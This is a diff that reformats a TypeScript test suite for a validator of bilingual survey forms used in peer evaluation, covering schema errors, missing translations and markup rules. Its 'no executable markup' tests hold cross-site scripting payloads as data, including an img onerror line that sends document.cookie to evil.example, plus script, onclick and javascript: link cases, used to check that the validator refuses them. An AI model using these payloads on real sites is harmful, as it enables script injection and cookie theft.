@@ -18,10 +18,15 @@ function base(): Json {
     kind: "peer_evaluation",
     name: { zh: "小表", en: "Mini form" },
     indicators: [
-      { id: "A", name: { zh: "甲", en: "A" }, weight: 0.6, children: [
-        { id: "A.1", name: { zh: "甲一", en: "A one" }, weight: 0.5 },
-        { id: "A.2", name: { zh: "甲二", en: "A two" }, weight: 0.5 },
-      ] },
+      {
+        id: "A",
+        name: { zh: "甲", en: "A" },
+        weight: 0.6,
+        children: [
+          { id: "A.1", name: { zh: "甲一", en: "A one" }, weight: 0.5 },
+          { id: "A.2", name: { zh: "甲二", en: "A two" }, weight: 0.5 },
+        ],
+      },
       { id: "B", name: { zh: "乙", en: "B" }, weight: 0.4, children: [{ id: "B.1", name: { zh: "乙一", en: "B one" }, weight: 1 }] },
     ],
     items: [
@@ -34,22 +39,54 @@ function base(): Json {
     survey: {
       title: t("小表", "Mini form"),
       completedHtml: t("<p>谢谢</p>", "<p>Thank you</p>"),
-      pages: [{
-        name: "p1",
-        title: t("第一页", "Page one"),
-        elements: [
-          { type: "radiogroup", name: "q1", title: t("问题一", "Question one"), isRequired: true, choices: LEVEL },
-          { type: "rating", name: "q2", title: t("问题二", "Question two"), rateMin: 1, rateMax: 5,
-            minRateDescription: t("很差", "Very poor"), maxRateDescription: t("很好", "Very good") },
-          { type: "matrix", name: "grid", title: t("矩阵", "Grid"), columns: LEVEL,
-            rows: [{ value: "r1", text: t("行一", "Row one") }, { value: "r2", text: t("行二", "Row two") }] },
-          { type: "text", name: "hours", title: t("学时", "Hours"), inputType: "number", min: 0, max: 40,
-            validators: [{ type: "numeric", minValue: 0, maxValue: 40, text: t("0–40", "0 to 40") }] },
-          { type: "dropdown", name: "year", title: t("年级", "Year"), visibleIf: "{q1} = 1",
-            choices: [{ value: "y1", text: t("大一", "First year") }, { value: "y2", text: t("大二", "Second year") }] },
-          { type: "comment", name: "note", title: t("意见", "Comments"), placeholder: t("选填", "Optional") },
-        ],
-      }],
+      pages: [
+        {
+          name: "p1",
+          title: t("第一页", "Page one"),
+          elements: [
+            { type: "radiogroup", name: "q1", title: t("问题一", "Question one"), isRequired: true, choices: LEVEL },
+            {
+              type: "rating",
+              name: "q2",
+              title: t("问题二", "Question two"),
+              rateMin: 1,
+              rateMax: 5,
+              minRateDescription: t("很差", "Very poor"),
+              maxRateDescription: t("很好", "Very good"),
+            },
+            {
+              type: "matrix",
+              name: "grid",
+              title: t("矩阵", "Grid"),
+              columns: LEVEL,
+              rows: [
+                { value: "r1", text: t("行一", "Row one") },
+                { value: "r2", text: t("行二", "Row two") },
+              ],
+            },
+            {
+              type: "text",
+              name: "hours",
+              title: t("学时", "Hours"),
+              inputType: "number",
+              min: 0,
+              max: 40,
+              validators: [{ type: "numeric", minValue: 0, maxValue: 40, text: t("0–40", "0 to 40") }],
+            },
+            {
+              type: "dropdown",
+              name: "year",
+              title: t("年级", "Year"),
+              visibleIf: "{q1} = 1",
+              choices: [
+                { value: "y1", text: t("大一", "First year") },
+                { value: "y2", text: t("大二", "Second year") },
+              ],
+            },
+            { type: "comment", name: "note", title: t("意见", "Comments"), placeholder: t("选填", "Optional") },
+          ],
+        },
+      ],
     },
   });
 }
@@ -72,7 +109,11 @@ function expectProblem(f: Json, code: ProblemCode, match: Partial<Problem> = {})
   const zh = describeProblem(found!, "zh");
   const en = describeProblem(found!, "en");
   expect(zh).toMatch(/[\u4e00-\u9fff]/);
-  const unfilled = new RegExp(`\\{(${Object.keys(found!.params ?? {}).concat("question", "indicator", "sum", "value", "property", "lang", "row").join("|")})\\}`);
+  const unfilled = new RegExp(
+    `\\{(${Object.keys(found!.params ?? {})
+      .concat("question", "indicator", "sum", "value", "property", "lang", "row")
+      .join("|")})\\}`,
+  );
   expect(en).not.toMatch(unfilled);
   expect(zh).not.toMatch(unfilled);
   expect(en).toContain(found!.path);
@@ -92,12 +133,19 @@ describe("checkInstrument", () => {
     delete f.name.en;
     f.items[0].weight = 0;
     const all = problems(f);
-    expect(all).toEqual(expect.arrayContaining([
-      expect.objectContaining({ path: "kind", code: "schema_invalid_value" }),
-      expect.objectContaining({ path: "name.en", code: "schema_invalid_type" }),
-      expect.objectContaining({ path: "items[0].weight", code: "schema_too_small" }),
-    ]));
-    expect(describeProblem(all.find((p) => p.path === "kind")!, "zh")).toContain("student_evaluation");
+    expect(all).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ path: "kind", code: "schema_invalid_value" }),
+        expect.objectContaining({ path: "name.en", code: "schema_invalid_type" }),
+        expect.objectContaining({ path: "items[0].weight", code: "schema_too_small" }),
+      ]),
+    );
+    expect(
+      describeProblem(
+        all.find((p) => p.path === "kind")!,
+        "zh",
+      ),
+    ).toContain("student_evaluation");
   });
 
   it("reports unknown fields that zod would silently drop", () => {
@@ -112,16 +160,22 @@ describe("checkInstrument", () => {
     it("refuses an unknown question type", () => {
       const f = base();
       f.survey.pages[0].elements.push({ type: "starrating", name: "q9", title: t("九", "Nine") });
-      const { zh, en } = expectProblem(f, "survey_unknown_type", { path: "survey.pages[0].elements[6].type", params: { type: "starrating" } });
+      const { zh, en } = expectProblem(f, "survey_unknown_type", {
+        path: "survey.pages[0].elements[6].type",
+        params: { type: "starrating" },
+      });
       expect(zh).toContain("starrating");
-      expect(en).toContain("does not know the type \"starrating\"");
+      expect(en).toContain('does not know the type "starrating"');
     });
 
     it("refuses an unknown property and an invalid property value", () => {
       const f = base();
       el(f, "q1").colour = "red";
       el(f, "hours").inputType = "numbr";
-      expectProblem(f, "survey_unknown_property", { path: "survey.pages[0].elements[0].colour", params: { property: "colour", className: "radiogroup" } });
+      expectProblem(f, "survey_unknown_property", {
+        path: "survey.pages[0].elements[0].colour",
+        params: { property: "colour", className: "radiogroup" },
+      });
       expectProblem(f, "survey_incorrect_value", { path: "survey.pages[0].elements[3].inputType", params: { value: "numbr" } });
     });
 
@@ -208,12 +262,23 @@ describe("checkInstrument", () => {
     it("refuses a scored question with a non-numeric option", () => {
       const f = base();
       el(f, "q1").choices.push({ value: "unsure", text: t("不确定", "Not sure") });
-      const { en } = expectProblem(f, "option_not_numeric", { path: "survey.pages[0].elements[0].choices[4]", params: { question: "q1", value: "unsure" } });
+      const { en } = expectProblem(f, "option_not_numeric", {
+        path: "survey.pages[0].elements[0].choices[4]",
+        params: { question: "q1", value: "unsure" },
+      });
       expect(en).toContain("only the reserved value na may be non-numeric");
       const g = base();
       g.unscored.push("stars");
-      g.survey.pages[0].elements.push({ type: "rating", name: "stars", title: t("星级", "Stars"), rateValues: [1, 2, { value: "x", text: t("叉", "X") }] });
-      expectProblem(g, "option_not_numeric", { path: "survey.pages[0].elements[6].rateValues[2]", params: { question: "stars", value: "x" } });
+      g.survey.pages[0].elements.push({
+        type: "rating",
+        name: "stars",
+        title: t("星级", "Stars"),
+        rateValues: [1, 2, { value: "x", text: t("叉", "X") }],
+      });
+      expectProblem(g, "option_not_numeric", {
+        path: "survey.pages[0].elements[6].rateValues[2]",
+        params: { question: "stars", value: "x" },
+      });
     });
 
     it("refuses an 'other' answer on a scored question, and numbers given as strings", () => {
@@ -222,7 +287,10 @@ describe("checkInstrument", () => {
       el(f, "q1").otherText = t("其他", "Other");
       expectProblem(f, "option_not_numeric", { params: { value: "other" } });
       const g = base();
-      g.survey.pages[0].elements[2].columns = [{ value: "1", text: t("好", "Good") }, { value: "0", text: t("差", "Poor") }];
+      g.survey.pages[0].elements[2].columns = [
+        { value: "1", text: t("好", "Good") },
+        { value: "0", text: t("差", "Poor") },
+      ];
       expectProblem(g, "option_not_numeric", { params: { question: "grid", value: "1" } });
     });
 
@@ -272,7 +340,10 @@ describe("checkInstrument", () => {
       expectProblem(g, "question_name_invalid", { params: { question: "意见" } });
       const h = base();
       el(h, "year").choices[1].value = "y1";
-      expectProblem(h, "duplicate_choice_value", { path: "survey.pages[0].elements[4].choices[1]", params: { question: "year", value: "y1" } });
+      expectProblem(h, "duplicate_choice_value", {
+        path: "survey.pages[0].elements[4].choices[1]",
+        params: { question: "year", value: "y1" },
+      });
     });
   });
 
@@ -280,21 +351,72 @@ describe("checkInstrument", () => {
     it("refuses a plain string (English missing)", () => {
       const f = base();
       el(f, "q1").title = "问题一";
-      const { zh, en } = expectProblem(f, "text_not_localized", { path: "survey.pages[0].elements[0].title", params: { property: "title" } });
+      const { zh, en } = expectProblem(f, "text_not_localized", {
+        path: "survey.pages[0].elements[0].title",
+        params: { property: "title" },
+      });
       expect(zh).toContain("缺少英文");
       expect(en).toContain("English is missing");
     });
 
     it("refuses a missing or empty translation anywhere respondents see text", () => {
       const cases: [(f: Json) => void, string, "zh" | "en"][] = [
-        [(f) => { f.survey.title = { default: "小表" }; }, "survey.title.en", "en"],
-        [(f) => { f.survey.completedHtml = { default: "<p>谢谢</p>", en: " " }; }, "survey.completedHtml.en", "en"],
-        [(f) => { f.survey.pages[0].title = { en: "Page one" }; }, "survey.pages[0].title.default", "zh"],
-        [(f) => { el(f, "q1").choices[0].text = { default: "优秀" }; }, "survey.pages[0].elements[0].choices[0].text.en", "en"],
-        [(f) => { el(f, "q2").maxRateDescription = { default: "很好" }; }, "survey.pages[0].elements[1].maxRateDescription.en", "en"],
-        [(f) => { el(f, "grid").rows[1].text = { default: "行二" }; }, "survey.pages[0].elements[2].rows[1].text.en", "en"],
-        [(f) => { el(f, "hours").validators[0].text = { default: "0–40" }; }, "survey.pages[0].elements[3].validators[0].text.en", "en"],
-        [(f) => { el(f, "note").placeholder = { default: "选填", en: "" }; }, "survey.pages[0].elements[5].placeholder.en", "en"],
+        [
+          (f) => {
+            f.survey.title = { default: "小表" };
+          },
+          "survey.title.en",
+          "en",
+        ],
+        [
+          (f) => {
+            f.survey.completedHtml = { default: "<p>谢谢</p>", en: " " };
+          },
+          "survey.completedHtml.en",
+          "en",
+        ],
+        [
+          (f) => {
+            f.survey.pages[0].title = { en: "Page one" };
+          },
+          "survey.pages[0].title.default",
+          "zh",
+        ],
+        [
+          (f) => {
+            el(f, "q1").choices[0].text = { default: "优秀" };
+          },
+          "survey.pages[0].elements[0].choices[0].text.en",
+          "en",
+        ],
+        [
+          (f) => {
+            el(f, "q2").maxRateDescription = { default: "很好" };
+          },
+          "survey.pages[0].elements[1].maxRateDescription.en",
+          "en",
+        ],
+        [
+          (f) => {
+            el(f, "grid").rows[1].text = { default: "行二" };
+          },
+          "survey.pages[0].elements[2].rows[1].text.en",
+          "en",
+        ],
+        [
+          (f) => {
+            el(f, "hours").validators[0].text = { default: "0–40" };
+          },
+          "survey.pages[0].elements[3].validators[0].text.en",
+          "en",
+        ],
+        [
+          (f) => {
+            el(f, "note").placeholder = { default: "选填", en: "" };
+          },
+          "survey.pages[0].elements[5].placeholder.en",
+          "en",
+        ],
       ];
       for (const [breakIt, path, lang] of cases) {
         const f = base();
@@ -309,9 +431,24 @@ describe("checkInstrument", () => {
       const f = base();
       f.unscored.push("abilities");
       f.survey.pages[0].elements.push(
-        { type: "matrixdropdown", name: "abilities", title: t("能力", "Abilities"), rows: [{ value: "teamwork", text: t("团队协作", "Teamwork") }],
-          columns: [{ name: "own_level", title: { default: "自身水平" }, cellType: "dropdown",
-            choices: [{ value: 1, text: t("低", "Low") }, { value: 2, text: "高" }, { value: "na", text: t("无法评估", "Cannot judge") }] }] },
+        {
+          type: "matrixdropdown",
+          name: "abilities",
+          title: t("能力", "Abilities"),
+          rows: [{ value: "teamwork", text: t("团队协作", "Teamwork") }],
+          columns: [
+            {
+              name: "own_level",
+              title: { default: "自身水平" },
+              cellType: "dropdown",
+              choices: [
+                { value: 1, text: t("低", "Low") },
+                { value: 2, text: "高" },
+                { value: "na", text: t("无法评估", "Cannot judge") },
+              ],
+            },
+          ],
+        },
         { type: "boolean", name: "ok", title: t("同意", "Agree"), labelTrue: "是" },
       );
       expectProblem(f, "translation_missing", { path: "survey.pages[0].elements[6].columns[0].title.en" });
@@ -330,7 +467,7 @@ describe("checkInstrument", () => {
 });
 
 describe("no executable markup (instrument files are content, never script)", () => {
-  const IMG = '<img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)">';
+  const IMG = "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">";
 
   it("refuses the attack's payload in an html element and in completedHtml, with the path, in both languages", () => {
     const f = base();
@@ -346,17 +483,17 @@ describe("no executable markup (instrument files are content, never script)", ()
   it("refuses scripts, event attributes, styles, links, frames, comments and other tags anywhere in the file", () => {
     const cases: [string, string][] = [
       ["<script>alert(1)</script>", "<script>"],
-      ["<p onclick=\"alert(1)\">x</p>", "onclick"],
+      ['<p onclick="alert(1)">x</p>', "onclick"],
       ["<P OnMouseOver=alert(1)>x</P>", "onmouseover"],
       ["<svg onload=alert(1)>", "<svg>"],
-      ["<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe>"],
-      ["<a href=\"javascript:alert(1)\">x</a>", "<a>"],
+      ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe>"],
+      ['<a href="javascript:alert(1)">x</a>', "<a>"],
       ["<style>body{background:url(//evil.example)}</style>", "<style>"],
-      ["<p style=\"background:url(//evil.example)\">x</p>", "style"],
-      ["<span class=\"a\" class=\"b\">x</span>", "class"],
+      ['<p style="background:url(//evil.example)">x</p>', "style"],
+      ['<span class="a" class="b">x</span>', "class"],
       ["<!-- x -->", "<!--"],
       ["<p/onclick=alert(1)>", "onclick"],
-      ["<p class=\"x\"onclick=\"y\">", "onclick"],
+      ['<p class="x"onclick="y">', "onclick"],
       ["<b", "<b"],
       ["<math><mi xlink:href=x>", "<math>"],
     ];
@@ -372,8 +509,10 @@ describe("no executable markup (instrument files are content, never script)", ()
 
   it("accepts the small set of layout tags with a class, and text that only looks like markup", () => {
     const f = base();
-    f.survey.completedHtml = t("<h3 class=\"done\">提交成功</h3><p>谢谢<br/>您的参与：<b>匿名</b>、<em>不可追溯</em></p><ul><li>一</li></ul>",
-      "<div><strong>Done</strong><br>Thank you</div>");
+    f.survey.completedHtml = t(
+      '<h3 class="done">提交成功</h3><p>谢谢<br/>您的参与：<b>匿名</b>、<em>不可追溯</em></p><ul><li>一</li></ul>',
+      "<div><strong>Done</strong><br>Thank you</div>",
+    );
     el(f, "q1").title = t("分数 < 60 或 a<=b 时 3<5", "Below 60 & more");
     expect(problems(f)).toEqual([]);
   });
@@ -406,17 +545,29 @@ describe("describeProblem", () => {
   it("names the language in the reader's language", () => {
     const p: Problem = { path: "survey.title.en", code: "translation_missing", params: { property: "title", lang: "en" } };
     expect(describeProblem(p, "zh")).toBe("survey.title.en：“title”缺少英文文本");
-    expect(describeProblem(p, "en")).toBe("survey.title.en: \"title\" has no English text");
+    expect(describeProblem(p, "en")).toBe('survey.title.en: "title" has no English text');
   });
 });
 
 describe("surveyQuestions", () => {
   it("lists questions of pages and nested panels in order, with paths", () => {
     const qs = surveyQuestions({
-      pages: [{ name: "p", elements: [
-        { type: "text", name: "a" },
-        { type: "panel", name: "box", elements: [{ type: "rating", name: "b" }, { type: "panel", name: "inner", elements: [{ type: "comment", name: "c" }] }] },
-      ] }],
+      pages: [
+        {
+          name: "p",
+          elements: [
+            { type: "text", name: "a" },
+            {
+              type: "panel",
+              name: "box",
+              elements: [
+                { type: "rating", name: "b" },
+                { type: "panel", name: "inner", elements: [{ type: "comment", name: "c" }] },
+              ],
+            },
+          ],
+        },
+      ],
     });
     expect(qs.map((q) => [q.name, q.type, q.path])).toEqual([
       ["a", "text", "survey.pages[0].elements[0]"],
